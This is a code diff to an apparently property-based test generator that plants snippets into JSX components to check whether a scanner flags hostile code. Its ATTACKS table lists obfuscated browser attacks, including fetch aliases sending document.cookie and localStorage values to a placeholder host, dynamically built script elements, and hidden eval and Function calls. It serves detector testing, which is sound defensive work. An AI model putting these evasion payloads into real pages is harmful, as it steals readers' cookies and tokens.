@@ -41,6 +41,30 @@ const COMPONENTS = [
     '  return <div className="tabs">{items.map((item, i) => <span key={i}>{item}</span>)}</div>',
     '}',
   ],
+  [
+    'export const Card = ({ title, href, icon, children }) => {',
+    '  $code',
+    '  return (',
+    '    <a className="card" href={href} style={{ display: "block" }}>',
+    '      {icon ? <span className="icon">{icon}</span> : null}',
+    '      <h3>{title}</h3>',
+    '      {children}',
+    '    </a>',
+    '  )',
+    '}',
+  ],
+  [
+    'export const Table = ({ rows = [], columns = [] }) => (',
+    '  <table>',
+    '    <thead><tr>{columns.map((c) => <th key={c.key}>{c.label}</th>)}</tr></thead>',
+    '    <tbody>{rows.map((row) => <tr key={row.id}><td>{row.name}</td></tr>)}</tbody>',
+    '  </table>',
+    ')',
+    'export const Note = ({ page = "setup" }) => {',
+    '  $code',
+    '  return <p>See <a href="#table">the table</a> or <a href={`/guides/${page}`}>{page}</a>.</p>',
+    '}',
+  ],
 ]
 
 /** What runs in readers' browsers, one a line: `what it tries | code`, `$host` a host's part. */
@@ -57,6 +81,12 @@ const ATTACKS = String.raw`
   markup injected | document.querySelector("main").innerHTML = "<img src=x onerror=alert(1)>"
   a computed global | window[["ev", "al"].join("")]("1")
   a script in JSX | return <script src="https://$host/x.js" />
+  a script element named in parts | const s = document.createElement("scr" + "ipt"); s.src = "https://$host/t.js"
+  aliases of document and fetch | const d = document; const send = fetch; send("https://$host/c?" + d.cookie)
+  eval taken out by destructuring | const { eval: run } = window; run("1")
+  the Function constructor through a prototype | const F = [].constructor.constructor; F("return 1")()
+  storage sent as an image's address | new Image().src = "https://$host/p?t=" + localStorage.getItem("s")
+  a javascript: URL put together | return <a href={"java" + "script:alert(1)"}>x</a>
 `
 const rows = (table: string): [string, string][] =>
   table
@@ -91,10 +121,15 @@ export const codeFileAttacks: Draw = (i) => {
       return codeCase(`stylesheet: ${css.slice(0, 20)}`, path, text, 2)
     })
   }
-  const [what, code] = all[i % all.length] ?? ['', '']
+  // Drawn from the whole list: a run of RUNS cases meets more than the first few.
   return fc
-    .tuple(host, pick(...COMPONENTS), words('snippets/widget.jsx snippets/widget.js custom.js'))
-    .map(([h, component, path]) => {
+    .tuple(
+      host,
+      pick(...COMPONENTS),
+      words('snippets/widget.jsx snippets/widget.js custom.js'),
+      pick(...all),
+    )
+    .map(([h, component, path, [what, code]]) => {
       const { text, line } = placed(component, code.replace('$host', h))
       return codeCase(what, path, text, line)
     })
@@ -105,14 +140,24 @@ function codeCase(variant: string, path: string, text: string, line: number): Ca
   return { variant, files, file: path, lines: [line, line], where: `${path}, line ${line}`, text }
 }
 
-/** What components do: state, handlers, their own site's API, an allowed host, local styles. */
+/**
+ * What components do, on any component above: state, timers, lists, dates and numbers shown,
+ * style objects, parsing their own data, copying text (issue #52: held to "no finding" under the
+ * allow-list). Each uses only its own names and the built-ins the list allows.
+ */
 const INERT = [
-  'fetch("/api/search?q=" + encodeURIComponent(query))',
-  'fetch("https://api.allowed.example/v1/status").then((r) => r.json())',
-  'setTimeout(() => setOpen(false), 200)',
-  'document.title = "Tabs"',
-  'console.log(window.location.pathname)',
-  'const el = document.getElementById("x"); el.textContent = "ok"',
+  'const label = `Step ${Math.min(3, 1 + 1)} of ${String(3)}`',
+  'const t = setTimeout(() => console.log("tick"), 200); clearTimeout(t)',
+  'const rows = [1, 2, 3].map((n) => ({ id: n, title: String(n) })).filter((r) => r.id > 1)',
+  'const when = new Date(0).toISOString(); const n = new Intl.NumberFormat("en-US").format(1234)',
+  'const style = { color: "red", margin: Math.max(0, 4) }; const cls = ["a", "b"].join(" ")',
+  `const data = JSON.parse('{"a": 1}'); const keys = Object.keys(data).sort()`,
+  'const seen = new Set(["a"]); const byId = new Map([[1, "a"]]); const ok = Array.isArray([]) && seen.has("a")',
+  'const id = useId(); const ref = useRef(null); const q = useMemo(() => encodeURIComponent("a b"), [])',
+  'const parts = "a,b".split(",").map((p) => p.trim().toUpperCase())',
+  'const copy = () => navigator.clipboard.writeText("npm i acme")',
+  'const [state, dispatch] = useReducer((s, a) => ({ ...s, ...a }), { page: 1 })',
+  'const frozen = Object.freeze({ a: 1 }); const merged = Object.assign({}, frozen, { b: 2 })',
 ]
 const INERT_STYLES = [
   'a { background: url(/images/bg.png) } /* url(https://evil.example/x) */',
